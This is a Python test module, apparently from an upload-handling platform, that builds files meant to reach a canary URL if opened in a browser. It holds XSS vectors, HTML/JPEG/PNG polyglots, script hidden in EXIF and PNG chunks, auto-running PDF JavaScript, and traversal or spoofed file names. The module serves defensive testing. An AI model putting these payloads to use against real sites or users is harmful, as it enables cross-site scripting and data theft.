"""Payloads that would run in a viewer's browser if anything ever let them: by type, by name, by what hides in them."""

import io
import zlib

from PIL import Image, PngImagePlugin

from tests.evidence.pieces import picture

VECTORS = (
    "<script>fetch('{canary}?1')</script>",
    "<img src=x onerror=\"fetch('{canary}?2')\">",
    "<svg onload=\"fetch('{canary}?3')\">",
    "<iframe srcdoc=\"<script>parent.fetch('{canary}?4')</script>\"></iframe>",
    "<link rel=stylesheet href='{canary}?5'>",
    "<meta http-equiv=refresh content='0;url={canary}?6'>",
    "<object data='{canary}?7'></object>",
    "fetch('{canary}?8')",
    "@import url('{canary}?9'); body {{ background: url('{canary}?10') }}",
    "<a href=\"javascript:fetch('{canary}?11')\" autofocus onfocus=\"fetch('{canary}?12')\">",
    "<?xml-stylesheet href='{canary}?13'?>",
    "*/ fetch('{canary}?14') /*",
)
"""Ways to reach the canary, for browsers that guess what a file is."""


def payloads(canary: str) -> list[tuple[str, bytes, str]]:
    """(file name, bytes, declared type); each tries to reach `canary` when it is opened."""
    script = f"<script>fetch('{canary}?s')</script><img src='{canary}?i'>"
    html = f"<!doctype html><html><body onload=\"location='{canary}?o'\">{script}</body></html>".encode()
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{canary}?v\')">'
        f'<script>fetch("{canary}?w")</script></svg>'
    ).encode()
    xml = f'<?xml version="1.0"?><?xml-stylesheet href="{canary}?x" type="text/xsl"?><a/>'.encode()
    found = [
        (f"page.{ending}", body, kind)
        for body, endings, kind in (
            (html, ("html", "htm", "jpg", "png", "txt", "pdf", "xhtml", "mp4"), "text/html"),
            (svg, ("svg", "png", "txt", "jpg"), "image/svg+xml"),
            (xml, ("xml", "txt", "xsl"), "text/xml"),
        )
        for ending in endings
    ]
    for vector in VECTORS:
        ready = vector.format(canary=canary)
        found += [("note.txt", f"My note.\n{ready}\n".encode(), "text/plain"),
                  ("photo.jpg", picture(comment=ready.encode()), "image/jpeg"),
                  ("photo.png", _with_text(ready), "image/png")]  # fmt: skip
    found += [(name, body, "text/plain") for name, body in _texts(script, canary)]
    found += [(name, body, "image/jpeg") for name, body in _pictures(html, script)]
    found += [("terms.pdf", _pdf(f"app.launchURL('{canary}?p');"), "application/pdf"),
              ("open.pdf", _pdf(f"this.submitForm('{canary}?q');"), "application/pdf"),
              ("page.pdf", b"%PDF-1.7\n" + html + b"\n%%EOF", "application/pdf")]  # fmt: skip
    return found


def _texts(script: str, canary: str) -> list[tuple[str, bytes]]:
    body = f"Dear platform, {script} javascript:fetch('{canary}?t') \n".encode()
    return [("note.txt", body), ("note.txt", "﻿".encode() + body), ("note.txt", b"a\n" * 600 + body),
            ("'\"><script>x.txt", body), ("a.html\n.txt", body), ("../../x.html.txt", body), ("x.svg%00.txt", body),
            ("\u202etxt.lmth", body), ("con.txt", body), ("a;filename=evil.html.txt", body)]  # fmt: skip


def _pictures(html: bytes, script: str) -> list[tuple[str, bytes]]:
    exif = Image.Exif()
    exif[0x010E] = script
    png = _with_text(script)
    return [
        ("photo.jpg", picture(comment=script.encode())),
        ("photo.jpg", picture(exif=exif)),
        ("photo.jpg", picture() + html),
        ("photo.html", picture()),
        ("photo.svg.jpg", picture(comment=html)),
        ("photo.png", png),
        ("photo.png", png + html),
        ("photo.png", _chunked(png, html)),
        ("photo.webp", picture(format="WEBP", exif=exif)),
        ('"><img src=x onerror=alert(1)>.jpg', picture(comment=script.encode())),
    ]


def _with_text(script: str) -> bytes:
    """A PNG that says something."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", script)
    png = io.BytesIO()
    Image.new("RGB", (20, 20)).save(png, "PNG", pnginfo=text)
    return png.getvalue()


def _chunked(png: bytes, body: bytes) -> bytes:
    """A PNG with a chunk of our own right behind its header."""
    kind = b"htMl"
    chunk = len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
    return png[:33] + chunk + png[33:]


def _pdf(script: str) -> bytes:
    """A small PDF that runs a script when it is opened."""
    plain = script.replace("(", "\\(").replace(")", "\\)")
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({plain}) >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]  # fmt: skip
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{one}\nendobj\n".encode()
    table = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return out + f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()
